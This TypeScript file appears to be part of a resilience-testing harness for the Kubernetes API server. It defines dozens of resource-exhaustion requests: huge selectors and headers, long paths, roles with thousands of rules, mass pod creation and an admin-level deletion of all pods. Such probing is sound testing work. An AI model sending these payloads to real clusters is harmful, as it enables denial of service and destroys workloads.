/**
 * Requests whose response costs more than the request: selectors, lists, tables, documents, products of stored objects.
 */

import { type Attack, type AttackRequest, atOnce, NAMESPACE, repeat, requests } from '../attack.ts';
import type { Target } from '../target.ts';

const core = (resource: string, query = '') => `/api/v1/namespaces/${NAMESPACE}/${resource}${query}`;
const TABLE = { accept: 'application/json;as=Table;v=v1;g=meta.k8s.io' };
const REVIEWS = '/apis/authorization.k8s.io/v1';

/** Node's limit for the request target and header fields, in bytes. */
const LONG = 120_000;
const long = (text: string, separator: string) =>
  repeat(Math.floor(LONG / (text.length + 5)), text, separator);

const asked = (name: string, ...build: readonly (() => AttackRequest)[]): Attack =>
  requests(`queries: ${name}`, ...build);

const labels = repeat(20, '"l#":"v"', ',');
const pod = (i: number) =>
  `{"metadata":{"name":"p-${i}","labels":{${labels}}},"spec":{"containers":[${repeat(10, '{"name":"c#","image":"i","env":[{"name":"A","value":"b"}]}', ',')}]}}`;

function makePods(count: number): Attack {
  return {
    name: `queries: ${count} pods are made`,
    run: async (target: Target) => {
      const answers = new Set<string>();
      for (let from = 0; from < count; from += 20) {
        answers.add(
          await atOnce(20, (i) =>
            target.send({ path: core('pods'), sender: 'clusterAdmin', body: pod(from + i) }),
          ),
        );
      }
      return [...answers].join(' ');
    },
  };
}

const addresses = (end: string) =>
  Array.from({ length: 50_000 }, (_, i) => `"10.${i >> 16}.${(i >> 8) & 255}.${i & 255}${end}"`).join();

const role = (name: string, rules: string) =>
  `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"${name}"},"rules":[${rules}]}`;
const ROLES = `/apis/rbac.authorization.k8s.io/v1/namespaces/${NAMESPACE}/roles`;
const ROLE_BINDINGS = `/apis/rbac.authorization.k8s.io/v1/namespaces/${NAMESPACE}/rolebindings`;
const rules = (count: number, of: string) =>
  repeat(
    count,
    `{"apiGroups":[""],"resources":["configmaps"],"resourceNames":["${of}#"],"verbs":["get"]}`,
    ',',
  );
const binding = (to: string) =>
  `{"metadata":{"name":"${to}"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"${to}"},"subjects":[{"kind":"ServiceAccount","name":"ordinary","namespace":"${NAMESPACE}"}]}`;

export function queryAttacks(): Attack[] {
  return [
    asked('a label selector of thousands of terms', () => ({
      path: core('configmaps', `?labelSelector=${long('k#', ',')}`),
    })),
    asked('a label selector of one set', () => ({
      path: core('configmaps', `?labelSelector=${encodeURIComponent('k in (')}${long('v#', ',')})`),
    })),
    asked('a label selector of parentheses', () => ({
      path: core('configmaps', `?labelSelector=${'('.repeat(LONG)}`),
    })),
    asked('a field selector of thousands of terms', () => ({
      path: core('configmaps', `?fieldSelector=${long('metadata.name!=k#', ',')}`),
    })),
    asked('parameters', () => ({ path: core('configmaps', `?${long('k#=v', '&')}`) })),
    asked('one parameter again and again', () => ({ path: core('configmaps', `?${long('limit=1', '&')}`) })),
    asked('a continue token', () => ({ path: core('configmaps', `?continue=${'A'.repeat(LONG)}`) })),
    asked('a path of slashes', () => ({ path: `/api/v1/${'/'.repeat(LONG)}` })),
    asked('a path of slashes inside', () => ({ path: `/api/v1/a${'/'.repeat(LONG)}a`, sender: 'anonymous' })),
    asked('a header of options', () => ({
      path: '/version',
      sender: 'anonymous',
      headers: { upgrade: 'websocket', connection: 'upgradex,'.repeat(LONG / 9) },
    })),
    asked('addresses that are none', () => ({
      path: '/version',
      sender: 'anonymous',
      headers: { 'x-forwarded-for': `${':'.repeat(LONG)}x` },
    })),
    asked('a revision of digits', () => ({
      path: core('configmaps', `?resourceVersion=${'1'.repeat(LONG)}&limit=${'1'.repeat(100)}`),
    })),
    asked('a path of escapes', () => ({ path: `/api/v1/namespaces/${'%61'.repeat(LONG / 3)}` })),
    asked('an Accept header of thousands of types', () => ({
      path: core('configmaps'),
      headers: { accept: long('a/b;q=0.#', ',') },
    })),
    asked('groups of an impersonated user', () => ({
      path: core('configmaps'),
      sender: 'clusterAdmin',
      headers: { 'impersonate-user': 'a', 'impersonate-group': long('g#', ',') },
    })),
    asked('a bearer token of dots', () => ({
      path: core('configmaps'),
      sender: 'anonymous',
      headers: { authorization: `Bearer ${'a.'.repeat(LONG / 2)}` },
    })),
    makePods(600),
    asked('a table of all pods', () => ({ path: core('pods'), headers: TABLE })),
    asked('all pods for people', () => ({ path: core('pods', '?pretty=true') })),
    asked('all pods as YAML', () => ({ path: core('pods'), headers: { accept: 'application/yaml' } })),
    asked('all pods as protobuf', () => ({
      path: core('pods'),
      headers: { accept: 'application/vnd.kubernetes.protobuf' },
    })),
    asked('all pods as CBOR', () => ({ path: core('pods'), headers: { accept: 'application/cbor' } })),
    asked('all pods, compressed', () => ({ path: core('pods'), headers: { 'accept-encoding': 'gzip' } })),
    asked('thousands of terms on all pods', () => ({
      path: core('pods', `?labelSelector=${long('l0', ',')}`),
    })),
    asked('thousands of terms of fields on all pods', () => ({
      path: core('pods', `?fieldSelector=${long('spec.nodeName!=n#', ',')}`),
    })),
    {
      name: 'queries: 30 tables of all pods at once',
      run: (target) => atOnce(30, () => target.send({ path: core('pods'), headers: TABLE })),
    },
    asked('all pods deleted', () => ({ method: 'DELETE', path: core('pods'), sender: 'clusterAdmin' })),
    asked('the OpenAPI document', () => ({ path: '/openapi/v2' })),
    asked('the OpenAPI document as protobuf', () => ({
      path: '/openapi/v2',
      headers: { accept: 'application/com.github.proto-openapi.spec.v2@v1.0+protobuf' },
    })),
    asked('OpenAPI of one group', () => ({ path: '/openapi/v3/api/v1' })),
    asked('aggregated discovery', () => ({
      path: '/apis',
      headers: { accept: 'application/json;v=v2;g=apidiscovery.k8s.io;as=APIGroupDiscoveryList' },
    })),
    asked('metrics', () => ({ path: '/metrics', sender: 'clusterAdmin' })),
    asked(
      'a role of thousands of rules for who has as many',
      () => ({ path: ROLES, sender: 'clusterAdmin', body: role('many', rules(6_000, 'a')) }),
      () => ({ path: ROLE_BINDINGS, sender: 'clusterAdmin', body: binding('many') }),
      () => ({
        path: `${REVIEWS}/selfsubjectrulesreviews`,
        sender: 'ordinary',
        body: `{"spec":{"namespace":"${NAMESPACE}"}}`,
      }),
      () => ({ path: core('configmaps/a5999'), sender: 'ordinary' }),
      () => ({ path: ROLES, sender: 'ordinary', body: role('other', rules(6_000, 'a')) }),
      () => ({ path: ROLES, sender: 'admin', body: role('other', rules(6_000, 'b')) }),
      () => ({ method: 'DELETE', path: `${ROLE_BINDINGS}/many`, sender: 'clusterAdmin' }),
      () => ({ method: 'DELETE', path: ROLES, sender: 'clusterAdmin' }),
    ),
    asked(
      'a role of thousands of rules, bound thousands of times to one user',
      () => ({ path: ROLES, sender: 'clusterAdmin', body: role('many', rules(6_000, 'a')) }),
      () => ({
        path: ROLE_BINDINGS,
        sender: 'clusterAdmin',
        body: `{"metadata":{"name":"many"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"many"},"subjects":[${repeat(12_000, `{"kind":"ServiceAccount","name":"ordinary","namespace":"${NAMESPACE}"}`, ',')}]}`,
      }),
      () => ({ path: core('configmaps/none'), sender: 'ordinary' }),
      () => ({
        path: `${REVIEWS}/selfsubjectrulesreviews`,
        sender: 'ordinary',
        body: `{"spec":{"namespace":"${NAMESPACE}"}}`,
      }),
      () => ({ method: 'DELETE', path: `${ROLE_BINDINGS}/many`, sender: 'clusterAdmin' }),
      () => ({ method: 'DELETE', path: ROLES, sender: 'clusterAdmin' }),
    ),
    asked(
      'a role that is put together by thousands of selectors, each of all roles',
      () => ({
        path: '/apis/rbac.authorization.k8s.io/v1/clusterroles',
        sender: 'clusterAdmin',
        body: `{"metadata":{"name":"sum"},"aggregationRule":{"clusterRoleSelectors":[${repeat(12_000, '{"matchExpressions":[{"key":"a","operator":"NotIn","values":["v#"]}]}', ',')}]}}`,
      }),
      () => ({
        path: '/apis/rbac.authorization.k8s.io/v1/clusterroles/sum',
        method: 'DELETE',
        sender: 'clusterAdmin',
      }),
    ),
    asked(
      'a quota of thousands of counts',
      () => ({
        path: core('resourcequotas'),
        sender: 'clusterAdmin',
        body: `{"metadata":{"name":"counts"},"spec":{"hard":{${repeat(20_000, '"count/a#.b":"1"', ',')}}}}`,
      }),
      () => ({ path: core('configmaps'), body: '{"metadata":{"generateName":"a-"}}' }),
      () => ({ method: 'DELETE', path: core('resourcequotas'), sender: 'clusterAdmin' }),
    ),
    asked('a storage class of topologies that are alike', () => ({
      path: '/apis/storage.k8s.io/v1/storageclasses',
      sender: 'clusterAdmin',
      body: `{"metadata":{"name":"alike"},"provisioner":"a.b","allowedTopologies":[${repeat(300_000, '{}', ',')}]}`,
    })),
    asked(
      'addresses of a service, and as many others that are none',
      () => ({
        path: core('services'),
        body: `{"metadata":{"name":"many"},"spec":{"ports":[{"port":80}],"externalIPs":[${addresses('')}]}}`,
      }),
      () => ({
        path: core('services/many'),
        method: 'PATCH',
        type: 'application/merge-patch+json',
        body: `{"spec":{"externalIPs":[${addresses('x')}]}}`,
      }),
      () => ({ method: 'DELETE', path: core('services/many') }),
    ),
    asked(
      'limits of thousands of kinds for thousands of containers',
      () => ({
        path: core('limitranges'),
        sender: 'clusterAdmin',
        body: `{"metadata":{"name":"limits"},"spec":{"limits":[${repeat(6_000, '{"type":"Container","default":{"a.b/r#":"1"}}', ',')}]}}`,
      }),
      () => ({
        path: core('pods'),
        body: `{"metadata":{"generateName":"a-"},"spec":{"containers":[${repeat(6_000, '{"name":"c#","image":"i"}', ',')}]}}`,
      }),
      () => ({ method: 'DELETE', path: core('limitranges'), sender: 'clusterAdmin' }),
    ),
    asked(
      'defaults of thousands of resources for thousands of containers',
      () => ({
        path: core('limitranges'),
        sender: 'clusterAdmin',
        body: `{"metadata":{"name":"limits"},"spec":{"limits":[{"type":"Container","default":{${repeat(20_000, '"a.b/r#":"1"', ',')}},"max":{${repeat(20_000, '"a.b/m#":"1"', ',')}}}]}}`,
      }),
      () => ({
        path: core('pods'),
        body: `{"metadata":{"generateName":"a-"},"spec":{"containers":[${repeat(6_000, '{"name":"c#","image":"i"}', ',')}]}}`,
      }),
      () => ({
        path: core('pods'),
        body: '{"metadata":{"generateName":"a-"},"spec":{"containers":[{"name":"c","image":"i"}]}}',
      }),
      () => ({ method: 'DELETE', path: core('limitranges'), sender: 'clusterAdmin' }),
    ),
    asked(
      'a service account of thousands of secrets for a pod of thousands of them',
      () => ({
        path: core('serviceaccounts'),
        body: `{"metadata":{"name":"rich"},"imagePullSecrets":[${repeat(20_000, '{"name":"s#"}', ',')}]}`,
      }),
      () => ({
        path: core('pods'),
        body: '{"metadata":{"generateName":"a-"},"spec":{"serviceAccountName":"rich","containers":[{"name":"c","image":"i"}]}}',
      }),
      () => ({ method: 'DELETE', path: core('serviceaccounts/rich') }),
      () => ({ method: 'DELETE', path: core('pods'), sender: 'clusterAdmin' }),
    ),
  ];
}
